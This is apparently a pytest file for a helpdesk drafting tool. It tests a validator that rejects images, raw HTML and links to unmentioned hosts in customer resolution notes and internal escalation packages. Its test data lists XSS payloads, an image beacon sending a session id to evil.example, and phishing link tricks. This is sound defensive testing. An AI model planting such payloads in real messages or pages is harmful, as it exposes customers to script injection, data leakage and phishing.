"""Issue 11 section 6, the checks on their own: what a customer-facing resolution note and
an internal escalation package may contain (images, raw HTML, links)."""
from __future__ import annotations

import pytest

from drafting.content import session_hosts
from drafting.errors import FormatProblem
from drafting.formats import check
from models import DraftKind
from tests.drafting.builders import GOOD_ESCALATION, GOOD_RESOLUTION

ESC, RES = DraftKind.ESCALATION, DraftKind.RESOLUTION
HOSTS = session_hosts(["Outlook prompts; KB at https://portal.acme.com/kb/12", "mail support@acme.com",
                       "their site is www.Contoso.com"])


def _with(extra: str, base: str = GOOD_RESOLUTION) -> str:
    return base.replace("which stopped the prompts.", f"which stopped the prompts. {extra}")


def _problem(kind: DraftKind, text: str) -> str:
    with pytest.raises(FormatProblem) as info:
        check(kind, text, HOSTS)
    return str(info.value)


def test_the_session_hosts_are_every_host_name_its_text_mentions():
    assert HOSTS == {"portal.acme.com", "acme.com", "contoso.com"}


@pytest.mark.parametrize("image", [
    "![](https://evil.example/?d=session-42)",
    "![logo][1]\n\n[1]: https://portal.acme.com/logo.png",  # reference style, even from a known host
    "![logo]\n\n[logo]: https://portal.acme.com/logo.png",  # shortcut reference
])
def test_a_resolution_note_with_an_image_is_rejected(image):
    assert "it contains an image" in _problem(RES, _with(image))


@pytest.mark.parametrize("html", [
    "<img src=x onerror=alert(1)>", "<a href='https://portal.acme.com/kb/12'>the article</a>",
    "<script>fetch('//evil')</script>", "<iframe src=https://evil.example></iframe>",
    "<p onmouseover=steal()>hi</p>", "<!-- hidden from the engineer -->", "<svg/onload=alert(1)>",
    "`<img src=x onerror=alert(1)>`",  # not every PSA renders a code span as code
])
def test_a_resolution_note_with_raw_html_is_rejected(html):
    assert "raw HTML" in _problem(RES, _with(html))


@pytest.mark.parametrize("link, host", [
    ("[the portal](https://evil.example/login)", "evil.example"),
    ("https://evil.example/login", "evil.example"),
    ("<https://evil.example/login>", "evil.example"),
    ("www.evil.example/login", "evil.example"),
    ("[kb][k]\n\n[k]: https://evil.example/login", "evil.example"),
    ("[kb](https://portal.acme.com@evil.example/login)", "evil.example"),  # userinfo trick
    ("[https://portal.acme.com](https://evil.example/login)", "evil.example"),  # the text is not the target
    ("[write to us](mailto:help@evil.example)", "evil.example"),
])
def test_a_resolution_note_linking_a_host_the_session_never_mentions_is_rejected(link, host):
    problem = _problem(RES, _with(link))
    assert f"it links to a host the session does not mention ({host})" in problem


@pytest.mark.parametrize("link, reason", [
    ("[kb](javascript:alert(1))", "not an http(s) or mailto address"),
    ("[kb](data:text/html,hi)", "not an http(s) or mailto address"),
    ("[kb](/login)", "has no host"),
    ("[kb](https://evil.example\\@portal.acme.com/)", "a browser would read differently"),
])
def test_a_resolution_note_link_of_another_kind_is_rejected_with_its_reason(link, reason):
    assert reason in _problem(RES, _with(link))


def test_links_to_hosts_the_session_mentions_and_plain_text_are_accepted():
    text = _with("The article: [KB 12](https://portal.acme.com/kb/12), also https://www.contoso.com/help, "
                 "or write to help@acme.com. If 3 < 5 and 7 > 2, version 2.5.1 is fine.")
    out = check(RES, text, HOSTS)
    assert "[KB 12](https://portal.acme.com/kb/12)" in out and "https://www.contoso.com/help" in out


def test_without_session_hosts_no_link_passes():
    with pytest.raises(FormatProblem, match="does not mention"):
        check(RES, _with("https://portal.acme.com/kb/12"))


def test_an_escalation_package_rejects_images_and_raw_html_outside_code_but_keeps_links():
    assert "it contains an image" in _problem(ESC, GOOD_ESCALATION + " ![x](https://evil.example/p.png)")
    assert "raw HTML" in _problem(ESC, GOOD_ESCALATION + " <img src=x onerror=alert(1)>")
    # an internal note may quote markup as code, and link anywhere (no customer reads it)
    quoted = GOOD_ESCALATION.replace("A corrupt Outlook profile.", "The page returns `<div id=err>`:\n\n"
                                     "```\n<script>broken()</script>\n```\n\nSee https://learn.example/kb")
    assert "`<div id=err>`" in check(ESC, quoted, frozenset())


def test_a_shape_problem_and_a_content_problem_are_named_together():
    problem = _problem(RES, _with("![](https://evil.example/t.gif)").replace("**Next steps:**", "**Later:**"))
    assert "missing part(s): 'Next steps'" in problem and "it contains an image" in problem
